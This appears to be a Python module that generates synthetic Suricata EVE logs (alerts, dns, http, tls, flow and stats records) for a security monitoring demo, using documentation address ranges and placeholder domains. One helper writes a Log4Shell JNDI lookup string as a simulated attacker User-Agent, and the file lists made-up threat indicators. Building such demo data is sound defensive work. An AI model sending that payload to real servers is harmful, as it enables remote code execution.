"""A realistic Suricata EVE stream for `vardeild demo`: pure generation, no I/O.

`DemoStream` writes EVE lines (Suricata 7 layout) between the demo members' networks and
outside addresses: alerts with real-looking Emerging Threats signatures (scans, brute force,
exploit attempts against the members; policy violations and command-and-control from inside),
dns, http, tls and flow records, and each sensor's `stats`. A few records meet the demo
indicators (`DEMO_INDICATORS`), so that protocol evidence is kept and matched alerts raised.

Nothing points at a real party: members' hosts come from the networks the caller passes (the
demo constituency's documentation and private ranges), outside addresses from documentation
ranges the demo leaves unassigned (`OUTSIDE_NETWORKS`), names from `.example` and `.test`.
The same seed gives the same lines, so tests and screenshots repeat.
"""

from __future__ import annotations

import ipaddress
import json
import random
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

# Documentation space no demo member holds: the "internet" the demo's attackers sit in.
OUTSIDE_NETWORKS: tuple[str, ...] = (
    "203.0.113.224/27",
    "192.0.2.144/28",
    "192.0.2.160/27",
    "198.51.100.224/27",
    "2001:db8:dead::/48",
)

# The demo's threat indicators: (type, value, description). The stream meets each of them now
# and then; `vardeild demo` loads them as the source DEMO_INDICATOR_SOURCE.
DEMO_INDICATOR_SOURCE = "vardeild demo"
DEMO_C2_IP = "203.0.113.240"
DEMO_PHISHING_DOMAIN = "journal-innlogging.test"
DEMO_MALWARE_DOMAIN = "fjordpost-sporing.example"
DEMO_MALWARE_URL = "http://203.0.113.241/gate.php"
DEMO_JA3 = "6734f37431670b3ab4292b8f60f29984"  # a client hello seen with the demo's malware
DEMO_INDICATORS: tuple[tuple[str, str, str], ...] = (
    ("ipv4", DEMO_C2_IP, "Command-and-control server of the demo's banking trojan"),
    ("domain", DEMO_PHISHING_DOMAIN, "Credential phishing against patient record logins"),
    ("domain", DEMO_MALWARE_DOMAIN, "Parcel-tracking lure delivering the demo's trojan"),
    ("url", DEMO_MALWARE_URL, "The demo trojan's check-in gate"),
    ("ja3", DEMO_JA3, "TLS client fingerprint of the demo's trojan"),
)

_INDICATOR_HOSTS = frozenset({DEMO_C2_IP, "203.0.113.241"})


@dataclass(frozen=True)
class Signature:
    """An alert rule as Suricata reports it, and how its traffic flows."""

    sid: int
    text: str
    category: str
    severity: int  # Suricata's: 1 high, 2 medium, 3 low
    proto: str
    port: int
    inbound: bool  # from outside to the member (else from the member out)
    weight: int  # how often it fires, relatively


SIGNATURES: tuple[Signature, ...] = (
    Signature(
        2001219, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, "TCP", 22, True, 30
    ),
    Signature(
        2003068,
        "ET SCAN Potential SSH Scan OUTBOUND",
        "Attempted Information Leak",
        2,
        "TCP",
        22,
        False,
        2,
    ),
    Signature(
        2010935,
        "ET SCAN Suspicious inbound to MSSQL port 1433",
        "Potentially Bad Traffic",
        2,
        "TCP",
        1433,
        True,
        12,
    ),
    Signature(
        2010937,
        "ET SCAN Suspicious inbound to mySQL port 3306",
        "Potentially Bad Traffic",
        2,
        "TCP",
        3306,
        True,
        8,
    ),
    Signature(
        2002911,
        "ET SCAN Potential VNC Scan 5900-5920",
        "Attempted Information Leak",
        2,
        "TCP",
        5900,
        True,
        6,
    ),
    Signature(
        2001569,
        "ET SCAN Behavioral Unusual Port 445 traffic Potential Scan or Infection",
        "Misc activity",
        3,
        "TCP",
        445,
        True,
        10,
    ),
    Signature(
        2402000, "ET DROP Dshield Block Listed Source", "Misc Attack", 2, "TCP", 443, True, 14
    ),
    Signature(
        2400003,
        "ET DROP Spamhaus DROP Listed Traffic Inbound group 4",
        "Misc Attack",
        2,
        "TCP",
        25,
        True,
        6,
    ),
    Signature(
        2034647,
        "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
        "Attempted Administrator Privilege Gain",
        1,
        "TCP",
        80,
        True,
        4,
    ),
    Signature(
        2036333,
        "ET EXPLOIT Possible Fortinet FortiOS Authentication Bypass (CVE-2022-40684)",
        "Attempted Administrator Privilege Gain",
        1,
        "TCP",
        443,
        True,
        2,
    ),
    Signature(
        2024364,
        "ET SCAN Possible Nmap User-Agent Observed",
        "Web Application Attack",
        1,
        "TCP",
        80,
        True,
        5,
    ),
    Signature(
        2013028,
        "ET POLICY curl User-Agent Outbound",
        "Attempted Information Leak",
        2,
        "TCP",
        80,
        False,
        4,
    ),
    Signature(
        2008581,
        "ET P2P BitTorrent DHT ping request",
        "Potential Corporate Privacy Violation",
        1,
        "UDP",
        6881,
        False,
        2,
    ),
    Signature(
        2024792,
        "ET POLICY Cryptocurrency Miner Checkin",
        "Potential Corporate Privacy Violation",
        1,
        "TCP",
        3333,
        False,
        1,
    ),
    Signature(
        2018959,
        "ET POLICY PE EXE or DLL Windows file download HTTP",
        "Potential Corporate Privacy Violation",
        1,
        "TCP",
        80,
        False,
        2,
    ),
    Signature(
        2027758,
        "ET MALWARE Observed Malicious SSL Cert (Banking Trojan CnC)",
        "A Network Trojan was detected",
        1,
        "TCP",
        443,
        False,
        1,
    ),
)

_USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Microsoft-CryptoAPI/10.0",
    "curl/8.5.0",
    "Go-http-client/1.1",
)
_WEB_HOSTS = (
    "helsenorge.example",
    "oppdatering.leverandor.example",
    "cdn.journalsystem.example",
    "time.fjordsky.example",
    "api.telemed.example",
)
_JA3_COMMON = (
    "773906b0efdefa24a7f2b8eb6985bf37",
    "cd08e31494f9531f560d64c695473da9",
    "b32309a26951912be7dba376398abc3b",
)
# Record kinds and how often each comes, relatively: a sensor writes many more protocol
# records than alerts; the stream tilts towards alerts so that the demo has something to show.
_KINDS = (("alert", 40), ("dns", 20), ("http", 12), ("tls", 12), ("flow", 14), ("ioc", 2))


@dataclass(frozen=True)
class DemoMember:
    """A demo organisation and the networks its hosts are drawn from."""

    name: str
    networks: tuple[str, ...]


def demo_members(constituency: Sequence[dict[str, Any]]) -> list[DemoMember]:
    """Return the members of a constituency in the registry's interchange form (as
    `members.demo.demo_constituency` gives it) with the networks the stream uses: those
    facing the internet, else the internal ones."""
    found = []
    for org in constituency:
        networks = org.get("networks") or []
        facing = [n["cidr"] for n in networks if n.get("exposure", "internet") == "internet"]
        chosen = facing or [n["cidr"] for n in networks]
        if chosen:
            found.append(DemoMember(name=str(org["name"]), networks=tuple(chosen)))
    return found


def _time(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%f+0000")


class DemoStream:
    """Writes EVE lines as sensors between demo members and the outside would."""

    def __init__(
        self, members: Sequence[DemoMember], sensors: Sequence[str], *, seed: int = 0
    ) -> None:
        if not members or not sensors:
            raise ValueError("the demo stream needs members and sensors")
        self.members = list(members)
        self.sensors = list(sensors)
        self._random = random.Random(seed)  # noqa: S311 - made-up traffic, not secrets
        self._hosts = [
            [ipaddress.ip_network(cidr) for cidr in member.networks] for member in self.members
        ]
        self._outside = [ipaddress.ip_network(cidr) for cidr in OUTSIDE_NETWORKS]
        # A handful of noisy attackers, as the real internet has: most alerts come from them.
        self._attackers = [self._outside_pick(self._outside[i % 4]) for i in range(12)]
        # Campaigns: an attacker working on one member with one kind of attack for a while,
        # so that alerts fold many events together and grow while the demo runs.
        inbound = [s for s in SIGNATURES if s.inbound]
        self._campaigns = [
            (
                self._random.choice(self._attackers),
                self._random.randrange(len(self._hosts)),
                self._random.choices(inbound, [s.weight for s in inbound])[0],
            )
            for _ in range(24)
        ]
        self._started: dict[str, datetime] = {}
        self._counts: dict[str, int] = {}

    # --- addresses ----------------------------------------------------------------------------

    def _pick(self, network: ipaddress.IPv4Network | ipaddress.IPv6Network) -> str:
        size = network.num_addresses
        if size <= 2:
            return str(network.network_address)
        offset = self._random.randrange(1, min(size - 1, 1 << 16))
        return str(network.network_address + offset)

    def _outside_pick(self, network: ipaddress.IPv4Network | ipaddress.IPv6Network) -> str:
        # The indicators' addresses appear only where the stream means them to.
        while True:
            address = self._pick(network)
            if address not in _INDICATOR_HOSTS:
                return address

    def member_host(self) -> str:
        """Return an address of a random demo member (the busy ones more often)."""
        index = min(int(self._random.expovariate(1 / 8)), len(self._hosts) - 1)
        index = (index * 7) % len(self._hosts)  # spread the busy ones over the list
        return self._pick(self._random.choice(self._hosts[index]))

    def outside_host(self) -> str:
        """Return an outside address: one of the noisy attackers, mostly."""
        if self._random.random() < 0.7:
            return self._random.choice(self._attackers)
        return self._outside_pick(self._random.choice(self._outside))

    # --- records ------------------------------------------------------------------------------

    def _base(
        self, event_type: str, at: datetime, src: str, sport: int, dst: str, dport: int, proto: str
    ) -> dict[str, Any]:
        return {
            "timestamp": _time(at),
            "flow_id": self._random.randrange(1, 1 << 51),
            "in_iface": "ens1f0",
            "event_type": event_type,
            "src_ip": src,
            "src_port": sport,
            "dest_ip": dst,
            "dest_port": dport,
            "proto": proto,
        }

    def _sport(self) -> int:
        return self._random.randrange(32768, 61000)

    def alert(self, at: datetime) -> dict[str, Any]:
        """Return an alert record of a weighted random signature."""
        if self._random.random() < 0.75:
            # The first campaigns are the busiest, as a few attackers make most of the noise.
            rank = min(int(self._random.expovariate(1 / 5)), len(self._campaigns) - 1)
            other, index, signature = self._campaigns[rank]
            member = self._pick(self._random.choice(self._hosts[index]))
        else:
            signature = self._random.choices(SIGNATURES, [s.weight for s in SIGNATURES])[0]
            member, other = self.member_host(), self.outside_host()
        if signature.sid == 2027758:
            other = DEMO_C2_IP
        src, dst = (other, member) if signature.inbound else (member, other)
        record = self._base("alert", at, src, self._sport(), dst, signature.port, signature.proto)
        record["alert"] = {
            "action": "allowed",
            "gid": 1,
            "signature_id": signature.sid,
            "rev": self._random.randrange(2, 9),
            "signature": signature.text,
            "category": signature.category,
            "severity": signature.severity,
            "metadata": {
                "created_at": ["2019_07_26"],
                "updated_at": ["2024_11_12"],
                "signature_severity": ["Major" if signature.severity == 1 else "Minor"],
            },
        }
        if signature.port in (80, 8080):
            record["app_proto"] = "http"
            record["http"] = self._http_fields(host=dst, agent=self._agent(signature))
        record["flow"] = self._flow_fields(at, to_server=self._random.randrange(1, 12))
        return record

    def _agent(self, signature: Signature) -> str:
        if "Nmap" in signature.text:
            return "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
        if "curl" in signature.text:
            return "curl/8.5.0"
        if "log4j" in signature.text:
            return "${jndi:ldap://" + self._random.choice(self._attackers) + ":1389/Exploit}"
        return self._random.choice(_USER_AGENTS)

    def _http_fields(self, *, host: str, agent: str, url: str | None = None) -> dict[str, Any]:
        return {
            "hostname": host,
            "url": url or self._random.choice(("/", "/login", "/api/v1/status", "/index.php")),
            "http_user_agent": agent,
            "http_content_type": "text/html",
            "http_method": "GET",
            "protocol": "HTTP/1.1",
            "status": self._random.choice((200, 200, 301, 404)),
            "length": self._random.randrange(120, 40000),
        }

    def _flow_fields(self, at: datetime, *, to_server: int) -> dict[str, Any]:
        age = self._random.randrange(0, 30)
        start = at - timedelta(seconds=age)
        return {
            "pkts_toserver": to_server,
            "pkts_toclient": max(0, to_server - 1),
            "bytes_toserver": to_server * self._random.randrange(60, 900),
            "bytes_toclient": max(0, to_server - 1) * self._random.randrange(60, 1400),
            "start": _time(start),
        }

    def dns(self, at: datetime, *, name: str | None = None) -> dict[str, Any]:
        """Return a dns query from a member host to an outside resolver."""
        query = name or self._random.choice(_WEB_HOSTS)
        record = self._base(
            "dns", at, self.member_host(), self._sport(), self.outside_host(), 53, "UDP"
        )
        record["dns"] = {
            "version": 2,
            "type": "query",
            "id": self._random.randrange(1, 65535),
            "rrname": query,
            "rrtype": self._random.choice(("A", "A", "AAAA")),
            "tx_id": 0,
            "opcode": 0,
        }
        return record

    def http(
        self, at: datetime, *, host: str | None = None, url: str | None = None
    ) -> dict[str, Any]:
        """Return an http record of a member host fetching from outside."""
        record = self._base(
            "http", at, self.member_host(), self._sport(), self.outside_host(), 80, "TCP"
        )
        record["tx_id"] = 0
        record["http"] = self._http_fields(
            host=host or self._random.choice(_WEB_HOSTS),
            agent=self._random.choice(_USER_AGENTS),
            url=url,
        )
        return record

    def tls(
        self, at: datetime, *, sni: str | None = None, ja3: str | None = None
    ) -> dict[str, Any]:
        """Return a tls record of a member host connecting out."""
        record = self._base(
            "tls", at, self.member_host(), self._sport(), self.outside_host(), 443, "TCP"
        )
        name = sni or self._random.choice(_WEB_HOSTS)
        record["tls"] = {
            "subject": f"CN={name}",
            "issuerdn": "C=NO, O=Demo Sertifikat AS, CN=Demo TLS CA 2026",
            "serial": ":".join(f"{self._random.randrange(256):02X}" for _ in range(8)),
            "sni": name,
            "version": "TLS 1.3",
            "notbefore": "2026-09-01T00:00:00",
            "notafter": "2027-09-01T00:00:00",
            "ja3": {"hash": ja3 or self._random.choice(_JA3_COMMON), "string": ""},
            "ja3s": {"hash": "eb1d94daa7e0344597e756a1fb6e7054", "string": ""},
        }
        return record

    def flow(self, at: datetime) -> dict[str, Any]:
        """Return a closed flow between a member host and outside."""
        inbound = self._random.random() < 0.5
        member, other = self.member_host(), self.outside_host()
        src, dst = (other, member) if inbound else (member, other)
        port = self._random.choice((22, 25, 53, 80, 123, 443, 3389))
        record = self._base("flow", at, src, self._sport(), dst, port, "TCP")
        record["app_proto"] = {22: "ssh", 25: "smtp", 80: "http", 443: "tls"}.get(port, "failed")
        fields = self._flow_fields(at, to_server=self._random.randrange(1, 40))
        fields.update(
            end=_time(at), age=self._random.randrange(0, 30), state="closed", reason="timeout"
        )
        fields["alerted"] = False
        record["flow"] = fields
        return record

    def indicator_hit(self, at: datetime) -> dict[str, Any]:
        """Return a protocol record that meets one of the demo indicators."""
        choice = self._random.randrange(5)
        if choice == 0:
            return self.dns(at, name=DEMO_PHISHING_DOMAIN)
        if choice == 1:
            return self.dns(at, name=DEMO_MALWARE_DOMAIN)
        if choice == 2:
            return self.http(at, host="203.0.113.241", url="/gate.php")
        if choice == 3:
            return self.tls(at, sni="cdn-sync.example", ja3=DEMO_JA3)
        record = self.flow(at)
        record["dest_ip"] = DEMO_C2_IP
        record["src_ip"] = self.member_host()
        return record

    def stats(self, at: datetime, sensor: str) -> dict[str, Any]:
        """Return the sensor's `stats` record: uptime and counters growing with the stream."""
        started = self._started.setdefault(sensor, at - timedelta(hours=6))
        seen = self._counts.get(sensor, 0)
        uptime = max(0, int((at - started).total_seconds()))
        packets = uptime * 9000 + seen * 40
        return {
            "timestamp": _time(at),
            "event_type": "stats",
            "stats": {
                "uptime": uptime,
                "capture": {
                    "kernel_packets": packets,
                    "kernel_drops": packets // 5000,
                    "kernel_ifdrops": 0,
                },
                "decoder": {"pkts": packets, "bytes": packets * 780, "invalid": packets // 90000},
                "detect": {"alert": self._counts.get(f"{sensor}:alerts", 0)},
            },
        }

    # --- lines --------------------------------------------------------------------------------

    def records(self, count: int, *, start: datetime, end: datetime) -> list[dict[str, Any]]:
        """Return count records (stats not counted) with times spread from start to end,
        oldest first; one `stats` record per sensor closes them."""
        span = max(0.0, (end - start).total_seconds())
        moments = sorted(
            start + timedelta(seconds=self._random.uniform(0, span)) for _ in range(count)
        )
        kinds, weights = zip(*_KINDS, strict=True)
        made = []
        for at in moments:
            kind = self._random.choices(kinds, weights)[0]
            record = {
                "alert": self.alert,
                "dns": self.dns,
                "http": self.http,
                "tls": self.tls,
                "flow": self.flow,
                "ioc": self.indicator_hit,
            }[kind](at)
            made.append(record)
        return made

    def batches(
        self, count: int, *, start: datetime, end: datetime
    ) -> list[tuple[str, list[bytes]]]:
        """Return (sensor, EVE lines) for each sensor: count records dealt out over the
        sensors, each sensor's ending with its `stats`."""
        by_sensor: dict[str, list[bytes]] = {sensor: [] for sensor in self.sensors}
        for record in self.records(count, start=start, end=end):
            sensor = self._random.choice(self.sensors)
            self._counts[sensor] = self._counts.get(sensor, 0) + 1
            if record["event_type"] == "alert":
                key = f"{sensor}:alerts"
                self._counts[key] = self._counts.get(key, 0) + 1
            by_sensor[sensor].append(_line(record))
        for sensor, lines in by_sensor.items():
            lines.append(_line(self.stats(end, sensor)))
        return list(by_sensor.items())


def _line(record: dict[str, Any]) -> bytes:
    return json.dumps(record, separators=(",", ":")).encode()
